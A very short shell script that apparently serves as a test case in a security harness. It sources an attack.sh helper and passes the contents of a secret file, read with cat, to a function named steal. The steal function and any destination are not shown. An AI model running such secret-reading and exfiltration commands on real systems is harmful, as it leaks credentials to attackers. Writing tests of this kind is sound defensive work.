# Reads the secret with cat.

. "${0%/*}/attack.sh"

steal "$(cat "$ATTACK_SECRET" 2>&1)" cat
